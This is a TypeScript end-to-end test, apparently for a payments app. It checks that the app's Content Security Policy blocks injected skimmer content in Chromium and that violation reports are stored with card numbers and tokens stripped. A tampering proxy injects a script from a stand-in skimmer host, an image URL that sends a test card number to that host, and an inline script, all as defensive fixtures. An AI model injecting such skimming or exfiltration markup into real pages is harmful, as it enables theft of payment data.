/**
 * The in-browser tamper signal, end to end: a tampering proxy in front of the real app writes a
 * skimming script (and an inline script and an exfiltrating image) into every page, Chromium
 * blocks them under the app's CSP, and the violation reports reach the app's SQL store, reduced
 * (no query strings, no card numbers) and counted. Over plain http Chromium reports through
 * `report-uri`; over https through the Reporting API (`report-to`), whose first report of a page
 * is sent at once and the rest in batches a minute apart, so the https case waits for one only.
 */
import { createHash, createPublicKey } from "node:crypto";
import { setTimeout as delay } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import type { StoredCspViolation } from "@linkpay/core";
import type { Browser } from "playwright-core";
import { generate } from "selfsigned";
import { launchBrowser, requireChromium } from "../test-support/browser";
import { startTamperingProxy, type TamperingProxy } from "../test-support/tampering-proxy";
import { startTestApp, type TestApp } from "../test-support/test-app";

const PAN = "4242424242424242";
const SKIMMER = "https://skimmer.invalid/skim.js";
/** How long a report may take from the page load to the store (measured: well under a second). */
const REPORT_WITHIN_MS = 10_000;
/** Each test waits for reports up to three times over, plus the browser's own work. */
const TEST_TIMEOUT_MS = 60_000;

/** Waits until the store holds a violation that `matches`, or throws with what it holds. */
async function storedViolation(
  app: TestApp,
  matches: (entry: StoredCspViolation) => boolean,
  minCount = 1,
): Promise<StoredCspViolation> {
  const deadline = Date.now() + REPORT_WITHIN_MS;
  for (;;) {
    const kept = await app.store.listCspViolations();
    const found = kept.find((entry) => matches(entry) && entry.count >= minCount);
    if (found !== undefined) return found;
    if (Date.now() > deadline) {
      throw new Error(
        `no matching CSP report within ${REPORT_WITHIN_MS} ms; stored: ${JSON.stringify(kept)}`,
      );
    }
    await delay(50);
  }
}

/** SPKI pin of a PEM certificate, for `--ignore-certificate-errors-spki-list`. */
function spkiPin(certificate: string): string {
  const spki = createPublicKey(certificate).export({ type: "spki", format: "der" });
  return createHash("sha256").update(spki).digest("base64");
}

const runBrowser = requireChromium();
(runBrowser ? describe : describe.skip)("CSP violation reports from Chromium", () => {
  let app: TestApp;
  let overHttp: TamperingProxy;
  let overHttps: TamperingProxy;
  let browser: Browser;

  beforeAll(async () => {
    // The proxies on loopback terminate TLS: the app learns of https from X-Forwarded-Proto.
    app = await startTestApp({ env: { TRUST_PROXY: "loopback" } });
    const certificate = await generate([{ name: "commonName", value: "127.0.0.1" }], {
      keySize: 2048,
      extensions: [{ name: "subjectAltName", altNames: [{ type: 7, ip: "127.0.0.1" }] }],
    });
    overHttp = await startTamperingProxy({
      target: app.url,
      inject: [
        `<script src="${SKIMMER}"></script>`,
        `<img src="https://skimmer.invalid/collect?card=${PAN}" alt="">`,
        "<script>window.stolen = true;</script>",
      ].join(""),
    });
    overHttps = await startTamperingProxy({
      target: app.url,
      // One violation only: the Reporting API sends a page's first report at once.
      inject: `<script src="${SKIMMER}"></script>`,
      tls: { key: certificate.private, cert: certificate.cert },
    });
    // Trust exactly this throwaway certificate, in the page and in the Reporting API's uploads.
    browser = await launchBrowser({
      extraArgs: [`--ignore-certificate-errors-spki-list=${spkiPin(certificate.cert)}`],
    });
  }, TEST_TIMEOUT_MS);

  afterAll(async () => {
    await browser?.close();
    await overHttp?.close();
    await overHttps?.close();
    await app?.close();
  });

  it(
    "over http: report-uri reports reach the store reduced and counted",
    async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      // A booking token in the page URL, a card number in the URL the skimmer sends it to.
      const address = `${overHttp.origin}/?lang=ja&token=secret-token-123`;
      const response = await page.goto(address);
      expect(response?.headers()["content-security-policy"]).not.toContain("report-to");

      const page1 = `${overHttp.origin}/`;
      const skimmer = await storedViolation(
        app,
        (e) => e.documentUrl === page1 && e.blockedUrl === SKIMMER,
      );
      expect(skimmer).toMatchObject({
        directive: "script-src-elem",
        disposition: "enforce",
        count: 1,
      });
      await storedViolation(
        app,
        (e) => e.documentUrl === page1 && e.blockedUrl === "https://skimmer.invalid/collect",
      );
      await storedViolation(app, (e) => e.documentUrl === page1 && e.blockedUrl === "inline");

      // The same violations from a second visit are counted, not kept again.
      await page.reload();
      await storedViolation(app, (e) => e.documentUrl === page1 && e.blockedUrl === SKIMMER, 2);
      const fromThisPage = (await app.store.listCspViolations()).filter(
        (e) => e.documentUrl === page1,
      );
      expect(fromThisPage).toHaveLength(3);

      const stored = JSON.stringify(await app.store.listCspViolations());
      expect(stored).not.toContain(PAN);
      expect(stored).not.toContain("secret-token-123");
      const reportLines = app.logs.filter((line) => line.includes('"cspViolation"'));
      expect(reportLines).toHaveLength(3);
      expect(reportLines.join("")).not.toContain("secret-token-123");
      expect(reportLines.join("")).not.toContain(PAN);
      expect(overHttp.reportTypes.length).toBeGreaterThan(0);
      expect(new Set(overHttp.reportTypes)).toEqual(new Set(["application/csp-report"]));
      await context.close();
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "over https: the Reporting API's first report of a page reaches the store",
    async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const response = await page.goto(`${overHttps.origin}/?lang=en`);
      expect(response?.headers()["content-security-policy"]).toContain("report-to csp-endpoint");
      expect(response?.headers()["reporting-endpoints"]).toBe('csp-endpoint="/csp-reports"');

      const skimmer = await storedViolation(
        app,
        (e) => e.documentUrl === `${overHttps.origin}/` && e.blockedUrl === SKIMMER,
      );
      expect(skimmer).toMatchObject({ directive: "script-src-elem", count: 1 });
      expect(overHttps.reportTypes).toEqual(["application/reports+json"]);
      await context.close();
    },
    TEST_TIMEOUT_MS,
  );
});
